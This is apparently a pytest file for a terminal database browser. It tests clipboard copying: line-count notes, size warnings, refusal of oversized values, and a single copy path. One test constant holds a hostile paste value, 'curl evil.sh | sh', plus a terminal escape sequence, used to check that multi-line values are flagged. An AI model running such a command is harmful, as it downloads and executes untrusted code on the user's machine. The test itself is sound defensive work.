"""What is copied is told: how many lines will be pasted, and what a terminal would lose."""

import sqlite3
from base64 import b64decode
from contextlib import closing
from pathlib import Path

import pytest

import pirate_tui
from pirate_tui.ui.copying import MOST, SAFE, copy
from tests.ui.conftest import Browse, Browser
from tests.ui.test_rows import value_pane


SHELL = "harmless\ncurl evil.sh | sh\n\x1b]52;c;AAAA\n"
"""A value that runs two commands when it is pasted into a shell."""


async def told(browser: Browser, number: int = 1) -> list[str]:
    """So many notes, once they are there."""
    await browser.until(lambda: len(browser.notes) >= number, f"{number} notes")
    return [*browser.notes]


class Sent:
    """What the driver has been told to write, of the clipboard."""

    def __init__(self, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
        self.texts: list[str] = []
        driver = browser.app._driver  # noqa: SLF001  no other way
        assert driver is not None
        monkeypatch.setattr(driver, "write", self._write)

    def _write(self, data: str) -> None:
        if data.startswith("\x1b]52;c;"):
            self.texts.append(b64decode(data[7:-1]).decode())


@pytest.mark.parametrize(
    ("text", "note"),
    [
        ("one", "copied the value"),
        ("one\ntwo", "copied 2 lines: the value"),
        ("run when it is pasted\n", "copied 2 lines: the value"),
        ("a\n" * 1_233 + "b", "copied 1,234 lines: the value"),
        ("", "nothing to copy: the value is empty"),
        ("half \udcff", "copied the value"),
    ],
)
async def test_what_has_several_lines_is_told_with_their_number(
    browse: Browse, world: Path, monkeypatch: pytest.MonkeyPatch, text: str, note: str
) -> None:
    async with browse(world) as browser:
        sent = Sent(browser, monkeypatch)
        copy(browser.app, "the value", text)
        assert await told(browser) == [note]
        assert sent.texts == ([text.replace("\udcff", "?")] if text else [])


@pytest.mark.parametrize("character", ["x", "é", "\N{SKULL AND CROSSBONES}"])
async def test_what_many_terminals_would_drop_is_sent_with_a_warning(
    browse: Browse, world: Path, monkeypatch: pytest.MonkeyPatch, character: str
) -> None:
    most = SAFE // len(character.encode())
    async with browse(world) as browser:
        sent = Sent(browser, monkeypatch)
        copy(browser.app, "the value", character * most)
        copy(browser.app, "the value", character * (most + 1))
        fits, exceeds = await told(browser, 2)
        assert fits == "copied the value"
        assert exceeds == "copied the value, 74 kB; many terminals accept only 74 kB: check before you paste"
        assert [len(text) for text in sent.texts] == [most, most + 1]


async def test_what_is_larger_than_any_is_not_sent_and_told(
    browse: Browse, world: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with browse(world) as browser:
        sent = Sent(browser, monkeypatch)
        copy(browser.app, "the value", "x" * MOST)
        copy(browser.app, "the value", "x" * (MOST + 1))
        assert [len(text) for text in sent.texts] == [MOST]
        assert len(browser.app.clipboard) == MOST
        assert (await told(browser, 2))[1] == (
            "not copied: the value is 786 kB, more than a terminal clipboard accepts (786 kB); "
            "the clipboard is unchanged"
        )


def put(world: Path, name: str) -> None:
    with closing(sqlite3.connect(world)) as connection:
        connection.execute("UPDATE pirate_crew SET name = ? WHERE id = 1", (name,))
        connection.commit()


async def test_a_value_with_lines_is_copied_with_their_number(browse: Browse, world: Path) -> None:
    put(world, SHELL)
    async with browse(world) as browser:
        await browser.press("]", "v")
        await value_pane(browser, "harmless")
        await browser.press("y")
        await browser.until(lambda: browser.app.clipboard, "the copy")
        assert browser.app.clipboard == SHELL.replace("\x1b", "␛")
        assert await told(browser) == ["copied 4 lines: the full value"]


async def test_a_value_that_is_too_large_is_not_read_to_be_copied(browse: Browse, world: Path) -> None:
    put(world, "x" * (MOST + 1))
    async with browse(world) as browser:
        await browser.press("]", "v")
        await value_pane(browser, "xxx")
        asked = len(browser.statements)
        await browser.press("y")
        assert (await told(browser))[0].startswith("not copied: the full value is 786 kB")
        assert not browser.app.clipboard
        assert len(browser.statements) == asked


async def test_a_whole_row_and_an_instance_are_copied_with_their_lines(browse: Browse, world: Path) -> None:
    put(world, f"{SHELL}{'x' * 300}")
    async with browse(world) as browser:
        await browser.press("y")
        await browser.until(lambda: browser.app.clipboard, "the copy")
        assert await told(browser) == ["copied 4 lines: the full row"]
        await browser.until(lambda: "PirateCrew 1" in browser.inspector.title_text.plain, "the instance")
        await browser.press("tab", "y")
        assert (await told(browser, 2))[1:] == [
            f"copied {browser.app.clipboard.count(chr(10)) + 1} lines: the instance"
        ]


async def test_what_is_selected_in_a_prompt_is_copied_the_same_way(browse: Browse, world: Path) -> None:
    async with browse(world) as browser:
        await browser.press("slash", *"hats", "shift+home", "ctrl+c")
        await browser.until(lambda: browser.app.clipboard == "hats", "the copy")
        assert await told(browser) == ["copied the selection"]
        await browser.press("escape")


def test_there_is_no_other_way_to_the_clipboard() -> None:
    folder = Path(pirate_tui.__file__).parent
    users = {path.name for path in folder.rglob("*.py") if "copy_to_clipboard" in path.read_text(encoding="utf-8")}
    assert users == {"copying.py", "app.py"}
